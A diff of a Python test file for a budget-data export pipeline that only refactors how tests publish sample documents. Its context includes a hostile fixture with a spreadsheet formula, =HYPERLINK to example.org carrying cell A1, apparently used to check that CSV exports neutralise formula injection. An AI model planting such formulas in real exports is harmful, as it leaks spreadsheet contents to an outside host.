@@ -22,7 +22,8 @@ from pipeline.exports.cells import csv_lines, safe_text
 from pipeline.rows import Tables
 from pipeline.schema import TABLES
 from pipeline.views import connect_with_views
-from tests.conftest import publish_documents, read_samples
+from tests.conftest import read_samples
+from tests.publishing import complete_documents, publish
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
 LONG = "dài " * 20_000
@@ -38,7 +39,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
             row["subject"] = texts[number % len(texts)]
         document["documents"][0]["title"] = LONG
     out = tmp_path_factory.mktemp("hostile") / "outputs"
-    publish_documents(out, tables)
+    publish(out, complete_documents(tables))
     return out
 
 
@@ -165,7 +166,7 @@ def test_sums_of_a_column_without_a_grand_total_are_those_of_its_items(tmp_path:
         document["budget_lines"] = [row for row in document["budget_lines"] if row["row_kind"] != "total"]
         for row in document["budget_lines"]:
             row["amount_vnd"] = row["amount"] * 1e6 if row["row_path"] != "A.II.1" else None
-    publish_documents(tmp_path, samples)
+    publish(tmp_path, complete_documents(samples))
     with connect_with_views(open_dataset(tmp_path)) as connection:
         found = connection.execute(
             "SELECT source, row_kind, amount, amount_vnd, amounts, len(record_ids) FROM budget_by_source "
